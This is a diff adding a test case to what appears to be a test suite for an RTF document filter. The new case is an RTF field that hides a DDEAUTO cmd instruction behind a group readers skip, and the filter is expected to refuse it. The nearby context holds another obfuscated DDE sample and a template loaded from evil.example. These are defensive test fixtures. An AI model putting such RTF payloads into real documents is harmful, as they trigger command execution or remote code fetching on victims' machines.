@@ -103,6 +103,12 @@ export const otherFiles = [
     'Codes are put together first',
     () => rtf("{\\field{\\*\\fldinst {D}{\\'44}{\\b E}AUTO cmd}{\\fldrslt x}}"),
   ),
+  refused(
+    'dde-behind-group.rtf',
+    'The same behind a harmless code in a group that readers pass over',
+    'A code has nothing in it but its letters',
+    () => rtf('{\\field{\\*\\fldinst {\\*\\generator PAGE }DDEAUTO cmd}{\\fldrslt x}}'),
+  ),
   refused('remote-template.rtf', 'A template on a server', 'Templates are refused', () =>
     rtf('{\\*\\template https://evil.example/a.dotm}'),
   ),
